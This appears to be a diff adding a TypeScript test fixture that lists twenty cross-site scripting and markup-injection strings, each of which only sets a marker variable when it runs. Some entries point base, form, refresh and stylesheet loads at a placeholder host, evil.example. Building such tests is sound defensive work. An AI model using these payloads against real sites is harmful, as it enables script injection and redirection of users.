@@ -1,0 +1,23 @@
+/** Twenty ways to get markup or script out of a stored text (docs/threats.md T11). Each that runs sets `window.hostile`. */
+export const hostileTexts: readonly string[] = [
+  '<script>window.hostile=1</script>',
+  '</script><script>window.hostile=1</script>',
+  '<img src=x onerror=window.hostile=1>',
+  '<svg/onload=window.hostile=1>',
+  '"><script>window.hostile=1</script>',
+  "'><img src=x onerror=window.hostile=1>",
+  '</title><script>window.hostile=1</script>',
+  '" onmouseover="window.hostile=1',
+  "' onfocus='window.hostile=1' autofocus='",
+  '<iframe srcdoc="<script>parent.hostile=1</script>">',
+  '<a href="javascript:window.hostile=1">x</a>',
+  '<!--><img src=x onerror=window.hostile=1>-->',
+  '<style>@import "//evil.example"</style>',
+  '<math><mtext></p><img src onerror=window.hostile=1>',
+  '<body onload=window.hostile=1>',
+  '<base href="//evil.example/">',
+  '<meta http-equiv="refresh" content="0;url=//evil.example">',
+  '<form action="//evil.example"><button>x',
+  '\u2028<script>window.hostile=1</script>',
+  '$& $1 $` <b>',
+]
